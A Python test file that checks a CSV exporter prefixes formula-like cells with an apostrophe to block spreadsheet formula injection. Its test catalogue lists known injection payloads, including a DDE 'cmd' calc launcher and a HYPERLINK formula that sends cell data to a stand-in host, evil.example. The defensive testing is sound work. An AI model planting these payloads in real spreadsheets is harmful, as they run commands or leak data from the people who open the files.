"""Formula injection in the CSV export: any cell a spreadsheet would run as a formula gets a
``'`` in front, nothing else changes, and every cell survives a round trip through Python's
``csv`` module."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.property.strategies import PROPERTY
from trailseal_plugins.exports.csv_format import COLUMNS, CsvExporter, event_row, neutralise

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# Text with the characters that matter over-represented: formula starts, spaces, quotes,
# commas, line ends.
cell_text = st.text(alphabet=st.one_of(st.sampled_from(list("=+-@\t\r\n ,\"';|")),
                                       st.characters(blacklist_categories=("Cs",))),
                    max_size=30)


def _dangerous(text: str) -> bool:
    return text.lstrip(" ").startswith(DANGEROUS)


@PROPERTY
@given(cell_text)
def test_neutralise_prefixes_exactly_the_dangerous_cells(text):
    cell = neutralise(text)
    if _dangerous(text):
        assert cell == "'" + text
    else:
        assert cell == text
    assert not _dangerous(cell)


# The catalogue: payloads from the formula-injection literature, as table-driven cases.
CATALOGUE = [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")',
     '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("   =1+1", "'   =1+1"),
    (" @x", "' @x"), ("  -2", "'  -2"),
    ("plain", "plain"), ("a=1", "a=1"), ("", ""), ("'=already", "'=already"),
    ("\n=1", "\n=1"),  # a line feed is not a formula start for spreadsheets: kept as is
]


@pytest.mark.parametrize("text,expected", CATALOGUE, ids=[repr(c[0]) for c in CATALOGUE])
def test_formula_catalogue(text, expected):
    assert neutralise(text) == expected


def _event(actor: str, entity: str, ua: str, detail: str, tag: str) -> dict:
    return {
        "id": "6f1c2b1e-0000-4000-8000-000000000001", "seq": 1,
        "occurred_at": "2026-11-20T10:00:00.000000Z",
        "received_at": "2026-11-20T10:00:01.000000Z", "event_type": "invoice.deleted",
        "actor": {"id": actor, "type": "user", "role": None, "department": None},
        "entity": {"type": "invoice", "id": entity}, "severity": "low", "source": None,
        "tags": [tag], "ip_address": None, "user_agent": ua,
        "action_details": {"note": detail}, "idempotency_key": None,
        "previous_hash": "0" * 64, "hash": "1" * 64,
        "insights": {"anomaly_score": 0.5, "is_anomaly": False, "category": "security",
                     "risk_level": "low", "tags": [tag], "ai_insights": {},
                     "review_required": False},
    }


@PROPERTY
@given(cell_text, cell_text, cell_text, cell_text, cell_text)
def test_rows_round_trip_through_the_csv_module(actor, entity, ua, detail, tag):
    event = _event(actor, entity, ua, detail, tag)
    data = b"".join(CsvExporter().stream([event, event], {}))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == 3
    for row in rows[1:]:
        assert row == event_row(event)
        cells = dict(zip(COLUMNS, row, strict=True))
        assert cells["actor_id"] == neutralise(actor)
        assert cells["entity_id"] == neutralise(entity)
        assert cells["user_agent"] == neutralise(ua)
        for cell in row:
            assert not _dangerous(cell), cell
